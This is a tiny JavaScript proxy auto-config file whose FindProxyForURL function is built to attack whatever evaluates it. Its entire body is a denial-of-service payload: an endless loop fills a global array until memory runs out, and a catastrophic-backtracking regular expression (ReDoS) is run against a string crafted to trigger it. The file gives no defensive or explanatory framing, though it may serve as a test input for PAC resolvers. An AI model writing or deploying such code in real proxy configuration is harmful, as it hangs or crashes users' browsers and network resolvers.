var keep = [];
function FindProxyForURL(url, host) {
  try { for (;;) keep.push(url + keep.length); } catch (e) {}
  return /(a+)+$/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaa!") ? "PROXY x:1" : undefined;
}
